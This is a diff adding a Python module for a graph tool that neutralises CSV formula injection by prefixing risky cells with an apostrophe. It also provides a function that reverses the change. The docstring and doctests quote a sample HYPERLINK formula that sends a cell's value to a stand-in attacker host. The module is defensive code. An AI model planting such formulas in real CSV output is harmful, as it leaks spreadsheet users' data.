@@ -1,0 +1,60 @@
+"""CSV cells that a spreadsheet shows as text instead of running them as formulas.
+
+Excel, LibreOffice Calc and Google Sheets treat a CSV cell that begins with ``=``, ``+``,
+``-`` or ``@`` (or a tab or carriage return) as a formula: a label such as
+``=HYPERLINK("https://evil.example/?"&A1, "click")`` in a graph someone else wrote would run
+in the reader's spreadsheet (OWASP calls it CSV injection). Every CSV her-graph writes (the
+node and edge lists, ``her-graph query --format csv``) therefore goes through
+:func:`formula_safe`: such a cell gets a leading apostrophe, which spreadsheets read as "this
+is text" and do not display. Numbers such as ``-5`` or ``+1.5e3`` stay as they are: a
+spreadsheet reads them as numbers, which run nothing.
+
+The change is reversible, so nothing is lost for pandas or R: a cell that already began with an
+apostrophe gets a second one, and :func:`restore` (drop one leading apostrophe) gives back the
+exact text::
+
+    df = pandas.read_csv("her-nodes.csv", dtype=str, keep_default_na=False)
+    df = df.apply(lambda column: column.str.replace(r"^'", "", regex=True))
+
+(in R: ``df[] <- lapply(df, function(x) sub("^'", "", x))``).
+
+Example:
+    >>> formula_safe('=HYPERLINK("https://evil.example")')
+    '\\'=HYPERLINK("https://evil.example")'
+    >>> formula_safe("-5"), formula_safe("Theodore"), formula_safe("'Tis")
+    ('-5', 'Theodore', "''Tis")
+    >>> restore(formula_safe("@everyone")) == "@everyone"
+    True
+"""
+
+from __future__ import annotations
+
+import re
+
+__all__ = ["formula_safe", "restore"]
+
+_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def formula_safe(cell: str) -> str:
+    """``cell`` with an apostrophe in front if a spreadsheet would read it as a formula (or it
+    begins with an apostrophe already); numbers and every other text unchanged.
+
+    Example:
+        >>> formula_safe("=1+1"), formula_safe("+1"), formula_safe("@home")
+        ("'=1+1", '+1', "'@home")
+    """
+    if cell.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
+def restore(cell: str) -> str:
+    """The text :func:`formula_safe` was given: ``cell`` without one leading apostrophe.
+
+    Example:
+        >>> restore("'=1+1"), restore("''Tis"), restore("Amy")
+        ('=1+1', "'Tis", 'Amy')
+    """
+    return cell[1:] if cell.startswith("'") else cell
